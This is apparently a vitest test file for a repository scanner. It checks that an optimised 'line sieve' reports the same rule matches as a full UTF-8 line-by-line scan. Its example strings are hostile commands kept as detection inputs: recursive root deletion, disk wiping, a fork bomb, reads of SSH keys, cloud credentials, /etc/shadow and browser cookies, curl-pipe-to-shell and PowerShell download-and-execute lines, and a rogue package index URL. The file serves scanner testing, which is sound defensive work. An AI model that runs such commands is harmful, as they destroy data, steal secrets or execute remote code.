// The sieve changes how much of a file is decoded and tested, never what the scan finds: for
// every fixture file, and for text and binary files built around each rule's examples, the scan
// from raw bytes gives the findings of the plain reading (decode the whole file as UTF-8, every
// content rule on every line).
import { lstatSync, readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { xorshift } from "../../bench/lib/seeded-random.mjs";
import { isRequirementsFile, SCAN_RULES } from "./rules";
import { scanFileBytes, type Unplaced } from "./scan-staged";

const MAX_PER_RULE = 20;
const repoRoot = path.resolve(__dirname, "../..");

/** The plain reading, as the scan did it before the sieve: every rule on every decoded line. */
function plainContentFindings(relPath: string, bytes: Buffer): Array<Pick<Unplaced, "rule" | "line">> {
  const requirements = isRequirementsFile(relPath);
  const out: Array<Pick<Unplaced, "rule" | "line">> = [];
  const counts = new Map<string, number>();
  bytes
    .toString("utf8")
    .split("\n")
    .forEach((raw, i) => {
      for (const rule of SCAN_RULES) {
        if (rule.match.kind !== "content") continue;
        if (rule.match.files === "requirements" && !requirements) continue;
        const line = rule.match.files === "requirements" ? raw.replace(/(?:^|\s)#.*$/, "") : raw;
        if (!rule.match.pattern.test(line)) continue;
        const n = (counts.get(rule.id) ?? 0) + 1;
        counts.set(rule.id, n);
        if (n <= MAX_PER_RULE) out.push({ rule: rule.id, line: i + 1 });
      }
    });
  return out;
}

const contentRuleIds = new Set(SCAN_RULES.filter((r) => r.match.kind === "content").map((r) => r.id));

function sievedContentFindings(relPath: string, bytes: Buffer): Array<Pick<Unplaced, "rule" | "line">> {
  return scanFileBytes({ path: relPath, mode: 0o644 }, bytes)
    .found.filter((f) => contentRuleIds.has(f.rule))
    .map((f) => ({ rule: f.rule, line: f.line }));
}

function randomBytes(size: number, rand: () => number): Buffer {
  const buf = Buffer.alloc(size);
  for (let i = 0; i < size; i++) buf[i] = rand() & 0xff;
  return buf;
}

// One example of each content rule, some with what only the UTF-8 reading sees: a no-break space
// or a line separator as whitespace, a broken sequence inside a gap, an astral character.
const EXAMPLES = [
  "rm -rf /",
  "sudo rm -fr ~/",
  "rm\u00a0-rf /",
  "rm --no-preserve-root -rf /",
  "shutil.rmtree('/')",
  "fs.rmSync(os.homedir(), { recursive: true })",
  "mkfs.ext4 /dev/sdb1",
  "dd if=/dev/zero \u{1f600} of=/dev/sda bs=1M",
  "cat x > /dev/sda",
  ":(){ :|:& };:",
  ":(){\u00a0:|:&\u2028};:",
  "chmod -R 777 /",
  "cat ~/.ssh/id_rsa",
  "open('.aws/credentials')",
  "ls ~/.gnupg",
  "cat /etc/shadow",
  "Chrome/Default/Cookies",
  "Brave\u00e9/Cookies",
  "cp ~/.netrc x",
  "curl -s https://x.example | sh",
  'bash -c "$(curl -fsSL https://x.example)"',
  "eval(await fetch(url))",
  "exec(requests.get(url).text)",
  "IEX (iwr http://x.example)",
  "invoke-expression (New-Object Net.WebClient).downloadstring('x')",
];
const REQUIREMENTS_EXAMPLES = ["--index-url https://evil.example/simple", "git+https://x.example/p.git", "-e ./local"];

describe("the line sieve", () => {
  it("every example matches its rule, so the comparisons below compare findings", () => {
    const anyFile = SCAN_RULES.flatMap((r) => (r.match.kind === "content" && r.match.files === "any" ? [r] : []));
    for (const example of EXAMPLES)
      expect(
        anyFile.some((r) => r.match.kind === "content" && r.match.pattern.test(example)),
        example,
      ).toBe(true);
    for (const r of anyFile)
      expect(
        plainContentFindings("x.txt", Buffer.from(EXAMPLES.join("\n"))).some((f) => f.rule === r.id),
        r.id,
      ).toBe(true);
  });

  it("finds what the plain reading finds in every fixture file", () => {
    const roots = ["apps/fixtures", "test/fixtures/hostile", "apps/native"].map((p) => path.join(repoRoot, p));
    let files = 0;
    let withFindings = 0;
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const abs = path.join(dir, name);
        const st = lstatSync(abs);
        if (st.isDirectory()) walk(abs);
        else if (st.isFile() && st.size <= 4 * 1024 * 1024) {
          const rel = path.relative(repoRoot, abs).split(path.sep).join("/");
          const bytes = readFileSync(abs);
          const plain = plainContentFindings(rel, bytes);
          expect(sievedContentFindings(rel, bytes), rel).toEqual(plain);
          files++;
          if (plain.length > 0) withFindings++;
        }
      }
    };
    roots.forEach(walk);
    expect(files).toBeGreaterThan(50);
    expect(withFindings).toBeGreaterThan(5);
  });

  it("finds what the plain reading finds in text around each example: CRLF, no final newline, past the cap", () => {
    const text = EXAMPLES.flatMap((e, i) => [`const v${i} = "plain text, ☃ and é";`, e]).join("\n");
    for (const body of [
      text,
      text.replace(/\n/g, "\r\n"),
      `${text}\n`,
      EXAMPLES[0]!,
      Array(45).fill(EXAMPLES[9]).join("\n"),
    ]) {
      const bytes = Buffer.from(body);
      const plain = plainContentFindings("src/app.js", bytes);
      expect(plain.length).toBeGreaterThan(0);
      expect(sievedContentFindings("src/app.js", bytes)).toEqual(plain);
    }
  });

  it("finds what the plain reading finds in requirement files", () => {
    const bytes = Buffer.from([...REQUIREMENTS_EXAMPLES, "# --index-url in a comment", "requests==2.0"].join("\n"));
    const plain = plainContentFindings("requirements.txt", bytes);
    expect(plain.length).toBeGreaterThanOrEqual(REQUIREMENTS_EXAMPLES.length);
    expect(sievedContentFindings("requirements.txt", bytes)).toEqual(plain);
  });

  it("finds what the plain reading finds in binary files with examples planted among invalid UTF-8", () => {
    const rand = xorshift(0x5eed);
    let found = 0;
    for (let round = 0; round < 300; round++) {
      const parts: Buffer[] = [];
      for (let k = 0; k < 1 + (rand() % 6); k++) {
        parts.push(randomBytes(rand() % 3000, rand));
        const example = Buffer.from(EXAMPLES[rand() % EXAMPLES.length]!);
        // Sometimes a broken sequence or a newline lands inside the example.
        const cut = rand() % 4 === 0 ? rand() % (example.length + 1) : -1;
        const insert = rand() % 2 === 0 ? Buffer.from([0xe2, 0x80]) : Buffer.from([0x0a]);
        parts.push(cut < 0 ? example : Buffer.concat([example.subarray(0, cut), insert, example.subarray(cut)]));
      }
      if (rand() % 2 === 0) parts.push(randomBytes(rand() % 3000, rand));
      const bytes = Buffer.concat(parts);
      const plain = plainContentFindings("assets/blob.bin", bytes);
      found += plain.length;
      expect(sievedContentFindings("assets/blob.bin", bytes), `round ${round}`).toEqual(plain);
    }
    expect(found).toBeGreaterThan(300);
  });

  it("finds what the plain reading finds in pseudo-random files of bytes and of punctuation", () => {
    const rand = xorshift(0xb1a5);
    const alphabet = Buffer.from(":(){}|&;/ \t-rfm~.>sdaIEXiwr\u00a0\n", "utf8");
    for (let round = 0; round < 200; round++) {
      const size = 1 + (rand() % 20000);
      const bytes =
        round % 2 === 0
          ? randomBytes(size, rand)
          : Buffer.from(Array.from({ length: size }, () => alphabet[rand() % alphabet.length]!));
      expect(sievedContentFindings("assets/noise.bin", bytes), `round ${round}`).toEqual(
        plainContentFindings("assets/noise.bin", bytes),
      );
    }
  });

  it("a line or first line decoded alone is the same string as in the whole file's decoding", () => {
    const rand = xorshift(0x11fe);
    for (let round = 0; round < 200; round++) {
      const bytes = randomBytes(1 + (rand() % 2000), rand);
      const lines = bytes.toString("utf8").split("\n");
      let start = 0;
      lines.forEach((line) => {
        const nl = bytes.indexOf(0x0a, start);
        const end = nl < 0 ? bytes.length : nl;
        expect(bytes.subarray(start, end).toString("utf8")).toBe(line);
        start = end + 1;
      });
    }
  });
});
